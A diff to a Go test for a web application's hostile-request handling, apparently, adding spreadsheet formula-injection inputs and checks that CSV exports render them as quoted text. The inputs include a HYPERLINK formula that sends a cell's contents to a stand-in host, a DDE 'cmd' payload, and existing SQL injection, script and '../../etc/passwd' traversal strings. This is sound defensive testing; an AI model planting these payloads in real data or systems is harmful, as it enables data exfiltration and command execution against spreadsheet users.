@@ -69,6 +69,10 @@ func TestHostileRequests(t *testing.T) {
 		ids = append(ids, id)
 	}
 
+	// A need titled as a formula, for the exports read at the end.
+	formula := `=HYPERLINK("http://x/?"&A1,"Cliquez")`
+	apiNeed(t, env, actor, formula)
+
 	// A Rally'nov round in identification, with an entry, for its routes.
 	roundID := env.Do(t, "POST", "/api/v1/rally/rounds", organiser.Token, roundBody("Rally'nov hostile")).Expect(t, 201).Map(t)["id"].(string)
 	for range 4 {
@@ -86,7 +90,8 @@ func TestHostileRequests(t *testing.T) {
 	pick := func(xs []string) string { return xs[rng.IntN(len(xs))] }
 	badText := []string{"\x00", "a\x00b", "\u0007", "\u0085", "\u202e", "\ufeff", "😀", strings.Repeat("é", 40000),
 		"9999-12-31", "0000-00-00", "2027-02-30", "NaN", "-Inf", "1e400", "-1", "0", "<script>alert(1)</script>",
-		"' OR 1=1 --", "../../etc/passwd", "%00", "\r\n\r\n", strings.Repeat("x", 300), ""}
+		"' OR 1=1 --", "../../etc/passwd", "%00", "\r\n\r\n", strings.Repeat("x", 300), "",
+		`=HYPERLINK("http://x/?"&A1,"Cliquez ici")`, "+1+cmd|' /C calc'!A0 et la suite", "@SUM(1+1) pour voir"}
 	badRaw := []string{"\xff", "\xc3\x28", "\xed\xa0\x80", "a\x00b"} // sent as raw bytes
 	badJSON := []any{nil, true, 1e300, -1, 1.5, []any{}, map[string]any{}, []any{"\x00"}, map[string]any{"\x00": 1},
 		strings.ToUpper(ids[0]), ids[1], "00000000-0000-0000-0000-000000000000"}
@@ -241,4 +246,14 @@ func TestHostileRequests(t *testing.T) {
 		}
 	}
 	t.Logf("%d requests, statuses %v", total, statuses)
+
+	// Whatever the campaign managed to record, no export hands a spreadsheet a formula.
+	b := newBrowser(t, env)
+	for _, path := range []string{"/besoins.csv", "/fonds-de-confiance.csv", "/appels.csv", "/rallye.csv", "/donnees-ouvertes/besoins.csv"} {
+		rows := readExport(t, path, b.get(path).expect(t, 200).Body)
+		if (path == "/besoins.csv" || strings.HasPrefix(path, "/donnees")) && !cellsOf(rows)["'"+formula] {
+			t.Errorf("%s lacks the need titled %q, as text", path, formula)
+		}
+	}
+	readExport(t, "/api/v1/indicators.csv", string(env.Do(t, "GET", "/api/v1/indicators.csv", "", nil).Expect(t, 200).Body))
 }
